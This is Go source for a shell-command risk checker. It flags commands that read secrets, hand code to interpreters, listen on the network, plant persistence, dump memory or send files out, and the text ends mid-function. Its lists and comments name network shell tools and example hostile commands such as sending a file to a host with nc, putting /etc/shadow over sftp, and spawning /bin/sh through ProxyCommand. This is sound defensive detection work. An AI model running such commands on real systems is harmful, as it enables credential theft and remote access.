package shell

import (
	"strings"

	"mvdan.cc/sh/v3/syntax"

	"github.com/countersign/countersign/risk/sensitive"
)

// Floors by argument (issue 25, item 1): dangers read off the words of any
// command line, known program or not, so that the model's low risk_level
// cannot open what no row names. Each floor looks at what the words are,
// not at which program gets them:
//   - a word or option value that names a secret (after "=", "@", inside
//     --opt=FILE or -fFILE, host:/path, file://) is a secret read;
//   - a shell or interpreter handed to a program (a path ending in sh,
//     bash, python..., an option's value, a command string "sh -c ...")
//     and code handed through an option that takes code (--eval, --exec,
//     --command, --to-command, -script, -e/-c with code) is running code;
//   - a listening address, a raw-protocol URL (gopher://, dict://), and a
//     net client's listen option are remote access;
//   - a word naming a place where code runs later (cron, systemd, rc
//     files, authorized_keys, sudoers, hooks) and a write target (an
//     output option's value, a copy's destination) in a PATH folder are
//     planting;
//   - memory images (gcore, gdb -p, jmap -dump, /proc/PID/mem) and
//     environments printed by inspect and show commands are secret reads;
//   - a config getter asked for a key named like a secret is a secret read.
// Readers keep their own operand rules (cat .env); for them only option
// values and paths are looked at, so that grep bash and ls -l /bin/sh stay
// looks.

// Reasons the floors give, each saying what the words do.
const (
	flRunsCode = "hands a shell or interpreter to a program, which runs code"
	flCodeOpt  = "hands code to a program through an option that runs it"
	flListens  = "listens for connections from the network, which gives remote access"
	flRawURL   = "speaks a raw protocol to a service (gopher, dict, file...), which reaches what HTTP cannot"
	flPlants   = "plants code that runs later (cron, services, login files, hooks)"
	flOnPath   = "writes into a folder on the PATH, where it replaces a command others run"
	flMemory   = "dumps a process's memory, which holds its secrets"
	flEnvPrint = "prints a container's or service's environment, which holds its secrets"
	flGetter   = "asks for a stored secret by its key"
)

// shellNames are shells, and interpreterBase names interpreters whose
// name may carry a version (python3.12, perl5.36, php8.2, lua5.4).
var (
	extraRunners = map[string]bool{"busybox": true, "expect": true, "wish": true, "tclsh": true, "irb": true,
		"jrunscript": true, "jjs": true, "gawk": false, "ipython": true, "ipython3": true, "R": true, "guile": true,
		"pry": true, "sash": true, "ginsh": true, "cpan": true, "byebug": true, "ghci": true, "scala": true, "sbcl": true,
		"clisp": true, "racket": true, "gforth": true, "rhino": true, "nodejs": true}
	// plainPackages are programs whose operands are package names (apt
	// install python3): a shell's name there is not a shell handed over.
	plainPackages = map[string]bool{"apt": true, "apt-get": true, "apt-cache": true, "yum": true, "dnf": true, "apk": true,
		"pip": true, "pip3": true, "pipx": true, "brew": true, "npm": true, "pnpm": true, "yarn": true, "conda": true,
		"snap": true, "zypper": true, "pacman": true, "gem": true, "cargo": true, "go": true, "dpkg": true, "rpm": true,
		"nix-env": true, "port": true, "choco": true, "winget": true, "uv": true, "poetry": true, "man": true,
		"which": true, "type": true, "whereis": true, "command": true, "hash": true, "update-alternatives": false}
	// patternTools take scripts of their own language through -e: sed's
	// and grep's are patterns, judged by their own rows.
	patternTools = map[string]bool{"sed": true, "gsed": true, "grep": true, "egrep": true, "fgrep": true, "rg": true,
		"ag": true, "jq": true, "yq": true, "git": true, "docker": true, "podman": true, "kubectl": true, "oc": true,
		"helm": true, "xargs": true, "find": true, "ps": true, "pgrep": true, "pkill": true, "awk": true, "mawk": true,
		"gawk": true, "nawk": true, "perl": true, "ruby": true, "node": true, "python": true, "python3": true,
		"mysql": true, "mariadb": true, "psql": true, "sh": true, "bash": true, "zsh": true, "dash": true, "ksh": true,
		"su": true, "sudo": true, "ssh": true, "rsync": false, "tar": false}
)

// runners holds every shell and interpreter name runnerName knows, and
// versionedRunners those that may carry a version (python3.12, perl5.36).
var runners, versionedRunners = func() (all, withVersion map[string]bool) {
	all, withVersion = map[string]bool{}, map[string]bool{}
	for n, ok := range shells {
		all[n], withVersion[n] = ok, ok
	}
	for n := range interpreters {
		all[n], withVersion[n] = true, true
	}
	for n, ok := range extraRunners {
		all[n] = all[n] || ok
	}
	return all, withVersion
}()

// runnerName reports whether the last path component of t names a shell
// or an interpreter: sh, /bin/bash, python3.11.
func runnerName(t string) bool {
	if t == "" || len(t) > 256 {
		return false
	}
	base := t[strings.LastIndexByte(t, '/')+1:]
	if runners[base] {
		return true
	}
	end := len(base)
	for end > 0 && (base[end-1] >= '0' && base[end-1] <= '9' || base[end-1] == '.') {
		end--
	}
	return end < len(base) && end > 0 && versionedRunners[base[:end]]
}

// specialNames are the programs the whole-command floors below look at
// (netListen, memoryDump, envPrint, inPlacePlant, socatFile, copiesOut):
// any other name skips them at the cost of one lookup it already made.
var specialNames = []string{"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "busybox-nc", "pwncat", "rlwrap",
	"openssl", "gcore", "procdump", "memdump", "dotnet-dump", "dotnet-gcdump", "criu", "pmdump", "minidump", "gdb",
	"lldb", "ltrace", "pstack", "eu-stack", "coredumpctl", "jmap", "jhsdb", "jcmd", "docker", "podman", "nerdctl",
	"crictl", "systemctl", "sed", "gsed", "perl", "ruby", "socat", "scp", "rsync", "rclone", "sftp", "lftp", "sshfs",
	"unison"}

// commandString reports whether t is a command line that starts with a
// shell or an interpreter: "sh -c 'id'", "/bin/bash -i", "sh #".
func commandString(t string) bool {
	first, rest, ok := strings.Cut(strings.TrimSpace(t), " ")
	if !ok || !runnerName(first) {
		return false
	}
	rest = strings.TrimSpace(rest)
	return rest == "" || rest[0] == '-' || strings.ContainsAny(rest, ";|&$`#<>'\"(")
}

// codeOptions are long options whose value is code or a command to run,
// for any program; a name ending in "*" is a prefix.
var codeOptions = []string{"--eval", "--exec", "--execute", "--command", "--run-command", "--cmd", "--script", "-script",
	"--to-command", "--checkpoint-action", "--use-compress-program", "--rsh", "--sh-exec", "--lua-exec",
	"--eval-command", "-ex", "--init-command", "--pre-exec", "--post-exec", "--exec-command", "--shell-command",
	"--on-*", "--run", "--hook", "--pre-hook", "--post-hook", "--deploy-hook", "--filter-command",
	"--pager", "--editor", "--ssh-command", "--proxy-command", "--compress-program", "--index-filter",
	"--tree-filter", "--msg-filter", "--interpreter", "--batch-interpreter"}

// readerCodeOptions are the code options that count for a reader too: a
// reader row may not know them, and none of them only looks.
var readerCodeOptions = []string{"--eval", "--exec", "--execute", "--to-command", "--checkpoint-action",
	"--use-compress-program", "--rsh", "--sh-exec", "--lua-exec", "--eval-command", "--exec-command",
	"--shell-command", "--on-*", "--pre-exec", "--post-exec", "--pager", "--editor", "--ssh-command",
	"--proxy-command", "--compress-program", "--filter-command", "--exec-path", "--upload-pack", "--receive-pack"}

// codeOptionSet and readerCodeOptionSet hold the lists' exact names.
var (
	codeOptionSet       = exactSet(codeOptions)
	readerCodeOptionSet = exactSet(readerCodeOptions)
)

// exactSet is the set of a list's names that are not prefixes.
func exactSet(list []string) map[string]bool {
	m := map[string]bool{}
	for _, o := range list {
		if !strings.HasSuffix(o, "*") {
			m[o] = true
		}
	}
	return m
}

// codeOption reports whether the option name (without its value) is a
// code option: one of readerCodeOptions for a reader, of codeOptions for
// any other program.
func codeOption(name string, reader bool) bool {
	if len(name) < 3 || name[0] != '-' {
		return false
	}
	set, list := codeOptionSet, codeOptions
	if reader {
		set, list = readerCodeOptionSet, readerCodeOptions
	}
	if set[name] {
		return true
	}
	if !strings.HasPrefix(name, "--on-") {
		return false // the only prefix in either list
	}
	for _, o := range list {
		if p, ok := strings.CutSuffix(o, "*"); ok {
			if strings.HasPrefix(name, p) && len(name) > len(p) {
				return true
			}
			continue
		}
		if name == o {
			return true
		}
	}
	return false
}

// looksLikeCode reports whether the value of -e or -c is code rather than
// a name: it holds a space, a call or a shell's punctuation.
func looksLikeCode(v string) bool {
	return strings.ContainsAny(v, " ;|&`$(){}!") || runnerName(v)
}

// commandFlags are the short options through which programs commonly take
// a command to run (rsync -e, tar -I, script -c, less -l...).
var commandFlags = map[string]bool{"-e": true, "-c": true, "-I": true, "-x": true, "-l": true, "-s": true, "-S": true,
	"-E": true, "-P": true, "-X": true, "-k": true, "-b": true, "-F": true, "-g": true}

// ownOptionRules are readers whose rows judge the files their options
// name (openssl x509 -in cert.pem reads a certificate, not a key).
var ownOptionRules = map[string]bool{"openssl": true}

// outputOptions are options whose value is a file the program writes.
var outputOptions = map[string]bool{"-o": true, "--output": true, "-O": true, "--output-document": true,
	"--output-file": true, "--log-file": true, "--logfile": true, "--log": true, "--out": true, "--outfile": true,
	"--out-file": true, "--save": true, "--dump-file": true, "--target-directory": true, "-t": false,
	"--result-file": true, "--write": true, "--dest": true, "--destination": true, "--directory-prefix": true, "-P": false}

// copiers put their last operand (or -t DIR) in place: a write target.
var copiers = map[string]bool{"cp": true, "mv": true, "install": true, "ln": true, "rsync": true, "scp": true,
	"link": true, "tee": true, "sponge": true, "docker": false, "rclone": true, "gsutil": true}

// floorWord is one word of a command line as the floors see it: its
// value (after "=" in --opt=VALUE) and whether it is an option's value.
type floorWord struct {
	text     string // the whole word, resolved
	opt      string // the option it belongs to: "--opt" of --opt=V, or the option before it
	value    string // the value: V of --opt=V, or the word itself
	isOption bool   // the word is an option (with or without =value)
}

// floors applies the floors by argument to one command line. name is the
// table name of argv[0]; reader is set for readers and wrappers, whose own
// rows judge their operands.
func (j *judge) floors(argv []arg, info nameInfo, reader, secretSaid bool) {
	args := argv[1:]
	if len(args) == 0 {
		return
	}
	shown := argv[0].text
	// A vehicle (docker exec, kubectl exec, nsenter) judges the command
	// it carries as a script (vehicles.go): the shell it is handed is
	// that command, not a floor of its own.
	packages := info.packages || info.vehicle
	patterns := info.patterns
	prevOpt, runs := "", "" // runs: a verb that runs what follows (exec, run)
	lastOperand := ""
	for _, a := range args {
		if a.dynamic {
			// A value computed at run time is not read, except as code: a
			// code option's value ($(tty) inside it) is still code.
			if prevOpt != "" && (codeOption(prevOpt, true) || !reader && (prevOpt == "-e" || prevOpt == "-c") && looksLikeCode(a.text)) {
				j.danger(shown + " " + prevOpt + " " + clipWord(a.text) + " " + flCodeOpt)
				return
			}
			if !reader && !packages && (commandString(a.text) || runnerInside(a.text)) {
				// -o "ProxyCommand /bin/sh -i <$(tty)": the shell is
				// written out, whatever the rest computes.
				j.danger(shown + " " + clipWord(a.text) + " " + flRunsCode)
				return
			}
			prevOpt = ""
			continue
		}
		t := j.resolve(a)
		if runs != "" && !packages && runnerName(t) && strings.IndexByte(t, '/') >= 0 {
			// ip netns exec NS /bin/sh, task exec -- /bin/sh.
			j.danger(shown + " " + runs + " … " + t + " " + flRunsCode)
			return
		}
		if runs == "" && in(t, "exec", "run", "spawn", "shell") {
			runs = t
		}
		w := floorWord{text: t, value: t}
		if len(t) > 1 && t[0] == '-' && t != "--" {
			w.isOption = true
			if n, v, ok := strings.Cut(t, "="); ok {
				w.opt, w.value = n, v
			} else {
				w.opt, w.value = t, ""
			}
		} else if prevOpt != "" {
			w.opt = prevOpt
		}
		if !w.isOption && t != "--" {
			lastOperand = t
		}
		if j.floorWord(shown, info, w, reader, packages, patterns, secretSaid) {
			return
		}
		switch {
		case w.isOption && !strings.Contains(t, "="):
			prevOpt = t
		default:
			prevOpt = ""
		}
	}
	if info.copier && lastOperand != "" && !reader {
		if _, ok := sensitive.OnPath(lastOperand); ok {
			j.danger(shown + " " + lastOperand + " " + flOnPath)
		}
	}
}

// floorWord applies the floors to one word; it reports whether it found
// a danger (one reason a command is enough).
func (j *judge) floorWord(shown string, info nameInfo, w floorWord, reader, packages, patterns, secretSaid bool) bool {
	t, v := w.text, w.value
	if !w.isOption && w.opt == "" && !strings.ContainsAny(t, "/=:@.~ ") && !runnerName(t) {
		// A plain operand (pods, status, main): no path, value, address
		// or code in it; only a persistence file's bare name can plant.
		if !reader && runsLaterName(t) {
			if why, ok := sensitive.RunsLater(t); ok {
				j.danger(shown + " " + clipWord(t) + ": " + why)
				return true
			}
		}
		return false
	}
	// Running code: an option that takes code.
	if w.isOption {
		if n := w.opt; n != "" && codeOption(n, reader) && (w.value != "" || !reader) {
			j.danger(shown + " " + clipWord(t) + " " + flCodeOpt)
			return true
		}
		if !reader && in(w.opt, "--interactive", "--shell-escape", "-shell-escape", "--enable-write18", "-enable-write18") {
			j.danger(shown + " " + w.opt + " " + flCodeOpt)
			return true
		}
		if !reader && !patterns && (w.opt == "-e" || w.opt == "-c") && w.value != "" && looksLikeCode(w.value) {
			j.danger(shown + " " + clipWord(t) + " " + flCodeOpt)
			return true
		}
	} else if w.opt != "" && !reader && !patterns && (w.opt == "-e" || w.opt == "-c" || w.opt == "-x" || w.opt == "-ex") && looksLikeCode(t) {
		j.danger(shown + " " + w.opt + " " + clipWord(t) + " " + flCodeOpt)
		return true
	} else if w.opt != "" && reader && codeOption(w.opt, true) {
		// rpm --eval '%{lua:...}': a code option's value in its own word.
		j.danger(shown + " " + w.opt + " " + clipWord(t) + " " + flCodeOpt)
		return true
	}
	// Running code: a shell or an interpreter handed over.
	if v != "" && !packages {
		handed := false
		switch {
		case commandString(v):
			handed = !patterns
		case w.isOption && strings.Contains(t, "="):
			handed = runnerName(lastField(v))
		case reader:
		case strings.IndexByte(v, '/') >= 0:
			handed = runnerName(v) && !strings.HasSuffix(v, "/") || strings.ContainsAny(v, " ,:;=\t") && runnerInside(v)
		case w.opt != "":
			// rsync -e sh, tar -I sh: a bare name counts after the short
			// options programs take commands through, not after -y (apt
			// install -y python3).
			handed = commandFlags[w.opt] && runnerName(v) && !patterns
		}
		if handed {
			j.danger(shown + " " + clipWord(t) + " " + flRunsCode)
			return true
		}
	}
	// Secret reads: the value and the paths inside it. Readers' operands
	// are their rows' to judge; their option values and paths are not.
	// A reader's word after an option may be a pattern (grep -r .env):
	// only a path-shaped one counts, and --opt=VALUE. Other programs'
	// words were matched whole by touchesSecret: what is left are the
	// paths inside them (file://, host:/path, -f/etc/shadow).
	if !secretSaid && !info.ownOpts {
		cand, whole := "", reader
		switch {
		case w.isOption && w.value == "":
			if k := strings.IndexAny(t, "/~"); k > 1 {
				cand, whole = t[k:], true // -f/etc/shadow
			}
		case !hasGlobMeta(v) && (!reader || w.isOption || w.opt != "" && strings.IndexByte(v, '/') >= 0):
			// A reader's operands are its row's: only what its options
			// name is looked at here (last -f /etc/shadow).
			cand = v
		}
		if cand != "" {
			if p, ok := j.secretIn(cand, whole); ok {
				j.danger(shown + " " + clipWord(t) + " names a secret (" + clipWord(p) + "), which it may read or send")
				return true
			}
		}
	}
	if v == "" {
		return false
	}
	if reader && in(w.opt, "-D", "--plugin", "--load", "--module") && sharedLibrary(v) {
		// ssh-keygen -D ./lib.so loads the library to talk to a token.
		j.danger(shown + " " + w.opt + " " + clipWord(t) + " loads a library, which runs its code in the program")
		return true
	}
	if reader {
		// A reader row may not know an option that writes (pip download
		// --src=/etc/cron.d): a value of an option named like a write
		// target, in a place where code runs later.
		if w.opt != "" && writeOption(w.opt) {
			if why, ok := sensitive.RunsLater(v); ok {
				j.danger(shown + " " + clipWord(t) + ": " + why)
				return true
			}
		}
		return false
	}
	if (w.opt != "" || !info.inCmds) && sharedLibrary(v) {
		// ssh-keygen -D ./lib.so, LD_PRELOAD's kin through an option.
		j.danger(shown + " " + clipWord(t) + " loads a library, which runs its code in the program")
		return true
	}
	if v == "/dev/mem" || v == "/dev/kmem" || v == "/dev/port" || v == "/dev/crash" || v == "/proc/kcore" {
		j.danger(shown + " " + v + " reads or writes the machine's memory, which holds every secret on it")
		return true
	}
	// Remote access: a listening address or a raw protocol.
	if listening(w) {
		j.danger(shown + " " + clipWord(t) + " " + flListens)
		return true
	}
	if rawURL(v) {
		j.danger(shown + " " + clipWord(t) + " " + flRawURL)
		return true
	}
	// Planting: a place where code runs later, and a PATH folder as an
	// output option's value.
	if !strings.ContainsAny(v, "@:=") {
		return j.plants(shown, t, v, w.opt)
	}
	for _, p := range pathsIn(v) {
		if j.plants(shown, t, p, w.opt) {
			return true
		}
	}
	return false
}

// plants records a danger when p, from the word t, is a place where code
// runs later, or a PATH folder given to an output option.
func (j *judge) plants(shown, t, p, opt string) bool {
	if why, ok := sensitive.RunsLater(p); ok {
		j.danger(shown + " " + clipWord(t) + ": " + why)
		return true
	}
	if outputOptions[opt] {
		if _, ok := sensitive.OnPath(p); ok {
			j.danger(shown + " " + clipWord(t) + " " + flOnPath)
			return true
		}
	}
	return false
}

// runsLaterName reports whether a bare word may be a persistence file's
// name (crontab, authorized_keys): those RunsLater knows without a dot.
func runsLaterName(t string) bool {
	return t == "crontab" || t == "anacrontab" || strings.HasPrefix(t, "authorized_keys") || strings.HasSuffix(t, "_config")
}

// lastField is the part of an option value after its last "=" or ":"
// (exec=/bin/sh, exec:sh).
func lastField(v string) string {
	if k := strings.LastIndexAny(v, "=:"); k >= 0 {
		v = v[k+1:]
	}
	first, _, _ := strings.Cut(v, " ")
	first, _, _ = strings.Cut(first, ",")
	return first
}

// pathsIn returns the paths a value may name: itself, the part after "@"
// (-d @file), after "host:" (scp host:/etc/x), after file://, and from the
// first "/" of a glued short option (-f/etc/shadow).
func pathsIn(v string) []string {
	var buf [6]string
	out := buf[:0]
	out = append(out, v)
	if !strings.ContainsAny(v, "@:=") {
		return out[:1:1]
	}
	if rest, ok := strings.CutPrefix(v, "@"); ok && rest != "" {
		out = append(out, rest)
	}
	if k := strings.Index(v, "=@"); k >= 0 {
		out = append(out, v[k+2:])
	}
	if rest, ok := strings.CutPrefix(strings.ToLower(v), "file://"); ok {
		out = append(out, v[len(v)-len(rest):])
	}
	if k := strings.IndexByte(v, ':'); k > 0 && k+1 < len(v) && (v[k+1] == '/' || v[k+1] == '~') && !strings.Contains(v[:k], "/") {
		out = append(out, v[k+1:])
	}
	if k := strings.LastIndexByte(v, '='); k >= 0 && k+1 < len(v) {
		out = append(out, v[k+1:])
	}
	return out
}

// secretIn reports the first path in v that is a secret; with whole
// false, v itself, its value after "=" and after "@" were matched
// already, and only the paths inside it are.
func (j *judge) secretIn(v string, whole bool) (string, bool) {
	if !whole && strings.IndexByte(v, ':') < 0 {
		return "", false
	}
	for _, p := range pathsIn(v) {
		p = strings.TrimPrefix(p, "@")
		if p == "" {
			continue
		}
		if j.isSecret(p) || j.cwd != "" && !strings.HasPrefix(p, "/") && j.isSecret(joinPath(j.cwd, p)) {
			return p, true
		}
	}
	return "", false
}

// listening reports whether a word asks a program to listen: a listen
// option, or an address that binds every interface.
func listening(w floorWord) bool {
	switch n := w.opt; {
	case n == "--listen" || n == "--listen-address" || n == "--bind" || n == "--bind-address" || n == "--address" && w.value != "":
		if n == "--address" || n == "--bind" || n == "--bind-address" {
			return anyAddress(w.value)
		}
		return true
	}
	v := w.value
	if k := strings.IndexByte(v, ':'); k >= 10 && k <= 12 && strings.EqualFold(v[k-7:k], "-listen") {
		switch strings.ToLower(v[:k-7]) {
		case "tcp", "udp", "tcp4", "tcp6", "udp4", "udp6":
			return true // socat TCP-LISTEN:4444
		}
	}
	return anyAddress(v)
}

// anyAddress reports whether v binds every interface: 0.0.0.0, [::],
// 0.0.0.0:8080, :::8080.
func anyAddress(v string) bool {
	return v == "0.0.0.0" || strings.HasPrefix(v, "0.0.0.0:") || v == "::" || v == "[::]" || strings.HasPrefix(v, "[::]:") || strings.HasPrefix(v, ":::")
}

// rawURL reports whether v is a URL in a scheme that speaks raw protocols
// to services or reads local files.
func rawURL(v string) bool {
	k := strings.Index(v, "://")
	if k <= 0 || k > 10 {
		return false
	}
	switch strings.ToLower(v[:k]) {
	case "gopher", "dict", "file", "ldap", "ldaps", "tftp", "telnet", "smb", "jar", "netdoc", "php", "expect", "phar":
		return true
	}
	return false
}

// netListen records a danger for a network client told to listen (nc -l,
// ncat --listen, socat TCP-LISTEN, openssl s_server): whoever connects
// reaches what it carries. It reports whether it did.
func (j *judge) netListen(shown, name string, args []arg) bool {
	switch name {
	case "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "busybox-nc", "pwncat", "rlwrap":
		for _, a := range args {
			t := a.text
			if t == "--listen" || strings.HasPrefix(t, "-") && !strings.HasPrefix(t, "--") && strings.IndexByte(t, 'l') > 0 {
				j.danger(shown + " " + t + " " + flListens)
				return true
			}
		}
	case "openssl":
		if len(args) > 0 && args[0].text == "s_server" {
			j.danger("openssl s_server " + flListens)
			return true
		}
	}
	return false
}

// memoryDump records a danger for a command that dumps or attaches to a
// process's memory; it reports whether it did.
func (j *judge) memoryDump(shown, name string, args []arg) bool {
	hit := false
	switch name {
	case "gcore", "procdump", "memdump", "dotnet-dump", "dotnet-gcdump", "criu", "pmdump", "minidump":
		hit = true
	case "gdb", "lldb", "ltrace", "pstack", "eu-stack":
		for i, a := range args {
			t := a.text
			if t == "-p" || t == "--pid" || strings.HasPrefix(t, "--pid=") || strings.HasPrefix(t, "-p") && isDigits(t[2:]) ||
				t == "attach" || t == "--attach-pid" || name == "gdb" && i > 0 && isDigits(t) {
				hit = true
			}
		}
	case "coredumpctl":
		for _, a := range args {
			if in(a.text, "dump", "debug", "gdb") {
				hit = true
			}
		}
	case "jmap", "jhsdb":
		for _, a := range args {
			if strings.HasPrefix(a.text, "-dump") || a.text == "jmap" || a.text == "dump" {
				hit = true
			}
		}
	case "jcmd":
		for _, a := range args {
			if strings.EqualFold(a.text, "GC.heap_dump") || strings.EqualFold(a.text, "VM.system_properties") {
				hit = true
			}
		}
	}
	if hit {
		j.danger(shown + " " + flMemory)
	}
	return hit
}

// envPrint records a danger for inspect and show commands that print a
// container's or a service's environment: docker inspect with no --format
// or one that prints Env, systemctl show with no property or the
// Environment one, systemctl show-environment.
func (j *judge) envPrint(shown, name string, args []arg) bool {
	switch name {
	case "docker", "podman", "nerdctl", "crictl":
		ops := make([]string, 0, 2)
		format, hasFormat := "", false
		for i, a := range args {
			t := a.text
			switch {
			case t == "-f" || t == "--format":
				hasFormat = true
				if i+1 < len(args) {
					format = args[i+1].text
				}
			case strings.HasPrefix(t, "--format="):
				hasFormat, format = true, strings.TrimPrefix(t, "--format=")
			case strings.HasPrefix(t, "-f") && len(t) > 2 && !strings.HasPrefix(t, "--"):
				hasFormat, format = true, t[2:]
			case !strings.HasPrefix(t, "-") && len(ops) < 2:
				ops = append(ops, t)
			}
		}
		inspect := len(ops) > 0 && (ops[0] == "inspect" || ops[0] == "inspectp" ||
			len(ops) > 1 && in(ops[0], "container", "service") && ops[1] == "inspect")
		if len(ops) > 1 && ops[0] == "compose" && ops[1] == "config" && !hasAnyOpt(args, "--services --volumes --images --profiles --networks -q --quiet --hash") {
			j.danger(shown + " compose config " + flEnvPrint)
			return true
		}
		if !inspect {
			return false
		}
		if len(ops) > 1 && in(ops[1], "image", "network", "volume") {
			return false
		}
		if !hasFormat || printsEnv(format) {
			j.danger(shown + " inspect " + flEnvPrint)
			return true
		}
	case "systemctl":
		ops := make([]string, 0, 1)
		prop := false
		for i, a := range args {
			t := a.text
			switch {
			case t == "-p" || t == "--property":
				if i+1 < len(args) {
					prop = true
					if strings.Contains(strings.ToLower(args[i+1].text), "environment") || strings.Contains(strings.ToLower(args[i+1].text), "exec") {
						j.danger(shown + " show -p " + args[i+1].text + " " + flEnvPrint)
						return true
					}
				}
			case strings.HasPrefix(t, "--property=") || strings.HasPrefix(t, "-p") && len(t) > 2 && !strings.HasPrefix(t, "--"):
				prop = true
				if low := strings.ToLower(t); strings.Contains(low, "environment") || strings.Contains(low, "exec") {
					j.danger(shown + " show " + t + " " + flEnvPrint)
					return true
				}
			case t == "-P":
				prop = true
			case !strings.HasPrefix(t, "-") && len(ops) < 1:
				ops = append(ops, t)
			}
		}
		if len(ops) == 0 {
			return false
		}
		if ops[0] == "show-environment" || ops[0] == "show" && !prop {
			j.danger(shown + " " + ops[0] + " " + flEnvPrint)
			return true
		}
	}
	return false
}

// printsEnv reports whether a Go template of docker inspect prints the
// environment: .Config.Env, json of the whole object or its Config.
func printsEnv(format string) bool {
	f := strings.ToLower(strings.Join(strings.Fields(format), ""))
	return strings.Contains(f, "env") || strings.Contains(f, "json.}}") || strings.Contains(f, "{{.}}") ||
		strings.Contains(f, "json.config") || strings.Contains(f, "{{.config}}") || f == "json" || strings.Contains(f, "printf\"%v\".")
}

// secretKeyWords are the parts of a key name that say it holds a secret.
var secretKeyWords = []string{"password", "passwd", "secret", "token", "apikey", "api_key", "api-key", "authtoken",
	"_auth", "requirepass", "masterauth", "private_key", "privatekey", "private-key", "credential", "access_key",
	"secret_key", "client_secret", "cookie"}

// getterVerb reports whether a word is the verb of a config getter or a
// key-value read, in any case: get, config:get, --get, read, show.
func getterVerb(v string) bool {
	if len(v) < 3 || len(v) > 12 {
		return false
	}
	switch v {
	case "get", "config:get", "get-value", "getenv", "--get", "--get-all", "--get-regexp", "read", "print", "show":
		return true
	}
	if c := v[0]; c < 'A' || c > 'Z' {
		return false // lower case and not a verb; upper case is tried folded (redis-cli CONFIG GET)
	}
	switch strings.ToLower(v) {
	case "get", "config:get", "get-value", "getenv", "read", "print", "show":
		return true
	}
	return false
}

// secretGetter records a danger for a config getter or key-value read
// asked for a key named like a secret: npm config get //r/:_authToken,
// git config --get user.password, consul kv get app/db_password,
// redis-cli CONFIG GET requirepass, aws configure get
// aws_secret_access_key. Only the word after the verb is the key.
func (j *judge) secretGetter(shown, name string, args []arg) bool {
	if name == "kubectl" || name == "oc" {
		return false // their own rows know secrets
	}
	for i := 0; i+1 < len(args) && i < 4; i++ {
		if !getterVerb(args[i].text) {
			continue
		}
		key := strings.ToLower(args[i+1].text)
		for _, s := range secretKeyWords {
			if strings.Contains(key, s) {
				j.danger(shown + " " + args[i].text + " " + clipWord(args[i+1].text) + " " + flGetter)
				return true
			}
		}
	}
	return false
}

// maxHeredocWords bounds the words of a here-document the floors read.
const maxHeredocWords = 512

// heredocSecrets records a danger when a here-document or here-string
// handed to a program that is not a reader names a secret (sftp host
// <<< 'put /etc/shadow'): the program may send it.
func (j *judge) heredocSecrets(name, text string) {
	n := 0
	for _, f := range strings.Fields(text) {
		if n++; n > maxHeredocWords {
			return
		}
		if strings.IndexByte(f, '/') < 0 && !strings.HasPrefix(f, ".") {
			continue
		}
		if p, ok := j.secretIn(strings.Trim(f, `'";`), true); ok {
			j.danger(name + " is handed " + clipWord(p) + " on its input, a secret it may read or send")
			return
		}
	}
}

// senders are programs that send what they read on standard input over
// the network.
var senders = map[string]bool{"nc": true, "ncat": true, "netcat": true, "nc.traditional": true, "nc.openbsd": true,
	"socat": true, "telnet": true, "openssl": true, "ssh": false, "curl": false, "ftp": true, "tftp": true, "sftp": true,
	"lftp": true, "smbclient": true, "busybox-nc": true, "pwncat": true, "cryptcat": true, "sendmail": true, "mail": true,
	"mailx": true, "mutt": true}

// stmtInputNames are the programs stmtInput looks at a statement for:
// senders, downloaders and the wrappers that may run one.
var stmtInputNames = func() map[string]bool {
	m := map[string]bool{}
	for _, set := range []map[string]bool{senders, downloaders, netClients} {
		for n, ok := range set {
			m[n] = m[n] || ok
		}
	}
	for n := range stdinWrappers {
		m[n] = true
	}
	return m
}()

// stmtInput applies the floors to what a statement reads and writes as a
// whole: a file sent over the network on standard input (nc host 4444 <
// notes.txt), a here-document naming a secret given to a program that is
// not a reader (sftp host <<< 'put /etc/shadow'), and a download saved to
// a file (curl -o x URL, curl URL > x), noted for later.
func (j *judge) stmtInput(s *syntax.Stmt) {
	c, ok := s.Cmd.(*syntax.CallExpr)
	if !ok || len(c.Args) == 0 {
		return
	}
	// Most statements need nothing here: only senders, downloaders and
	// here-documents do. A wrapper (sudo, timeout) is looked through.
	first, lit := "", false
	if w := c.Args[0]; len(w.Parts) == 1 {
		if l, ok := w.Parts[0].(*syntax.Lit); ok {
			first, lit = l.Value, true
		}
	}
	if !lit {
		first, lit = word(c.Args[0]).lit()
	}
	base := first[strings.LastIndexByte(first, '/')+1:]
	if lit && !stmtInputNames[base] {
		heredoc := false
		for _, r := range s.Redirs {
			heredoc = heredoc || r.Op == syntax.Hdoc || r.Op == syntax.DashHdoc || r.Op == syntax.WordHdoc
		}
		if !heredoc {
			return
		}
	}
	argv := callArgs(s)
	if len(argv) == 0 {
		return
	}
	name, _, ok := commandName(argv[0])
	if !ok {
		return
	}
	info := j.a.names[name]
	for _, r := range s.Redirs {
		switch r.Op {
		case syntax.RdrIn:
			if t, lit := word(r.Word).lit(); lit && senders[name] && t != "/dev/null" && !strings.HasPrefix(t, "/dev/tcp/") &&
				(name != "openssl" || len(argv) > 1 && argv[1].text == "s_client") {
				j.danger(argv[0].text + " < " + clipWord(t) + " sends a file over the network")
			}
		case syntax.WordHdoc, syntax.Hdoc, syntax.DashHdoc:
			if info.pass {
				continue
			}
			src := r.Word
			if r.Op != syntax.WordHdoc {
				src = r.Hdoc
			}
			if src != nil {
				j.heredocSecrets(argv[0].text, word(src).text)
			}
		case syntax.RdrOut, syntax.AppOut, syntax.RdrClob, syntax.RdrAll, syntax.AppAll:
			if downloaders[name] && r.Word != nil {
				if t, lit := word(r.Word).lit(); lit {
					j.noteDownload(t, name)
				}
			}
		}
	}
	if downloaders[name] {
		j.downloadTargets(name, argv[1:])
	}
}

// downloadTargets notes the files a downloader's options write: curl -o
// FILE, --output FILE, wget -O FILE, --output-document=FILE, and wget's
// default, the URL's last segment.
func (j *judge) downloadTargets(name string, args []arg) {
	named := false
	for i, a := range args {
		t := a.text
		var target string
		switch {
		case in(t, "-o", "--output", "-O", "--output-document") && i+1 < len(args):
			if t == "-O" && name == "curl" {
				continue // curl -O: the URL's name, below
			}
			target = args[i+1].text
		case strings.HasPrefix(t, "--output="), strings.HasPrefix(t, "--output-document="):
			_, target, _ = strings.Cut(t, "=")
		case strings.HasPrefix(t, "-o") && len(t) > 2 && !strings.HasPrefix(t, "--"):
			target = t[2:]
		case strings.HasPrefix(t, "-O") && len(t) > 2 && name == "wget":
			target = t[2:]
		}
		if target != "" && target != "-" {
			named = true
			j.noteDownload(target, name)
		}
	}
	if named {
		return
	}
	for _, a := range args {
		if k := strings.Index(a.text, "://"); k > 0 && !a.dynamic {
			rest := a.text[k+3:]
